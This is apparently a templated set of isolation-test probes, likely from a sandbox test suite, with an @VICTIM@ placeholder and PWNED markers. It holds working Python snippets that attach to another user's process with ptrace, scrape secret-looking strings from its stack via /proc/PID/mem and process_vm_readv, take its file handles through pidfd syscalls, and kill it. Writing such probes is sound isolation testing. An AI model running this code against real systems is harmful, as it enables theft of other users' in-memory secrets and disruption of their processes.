### attached to a process of the user
python3 -c "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for request in (16, 0x4206):
    if libc.ptrace(request, @VICTIM@, 0, 0) == 0: print('PWNED-PTRACE')"
### the memory of a process of the user
python3 - <<'P'
import re
try:
    held = open("/proc/@VICTIM@/mem", "rb", 0)
    for line in open("/proc/@VICTIM@/maps"):
        if "[stack]" in line:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            held.seek(low); print(re.findall(rb"SECRET-[A-Z]+-[0-9a-z]+", held.read(high - low)))
except OSError as error: print(error)
P
### a read and a write across processes
python3 - <<'P'
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
try:
    for line in open("/proc/@VICTIM@/maps"):
        if "[stack]" in line:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            data = ctypes.create_string_buffer(high - low)
            ours, theirs = Vector(ctypes.addressof(data), high - low), Vector(low, high - low)
            print(libc.process_vm_readv(@VICTIM@, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
            print(re.findall(rb"SECRET-[A-Z]+-[0-9a-z]+", data.raw))
except OSError as error: print(error)
P
### its handles taken, itself ended
python3 -c "
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
held = libc.syscall(434, @VICTIM@, 0)
if held >= 0 and libc.syscall(438, held, 0, 0) >= 0: print('PWNED-HANDLE')
try: os.kill(@VICTIM@, signal.SIGKILL)
except OSError as error: print(error)
try: os.kill(-1, 0)
except OSError as error: print(error)"
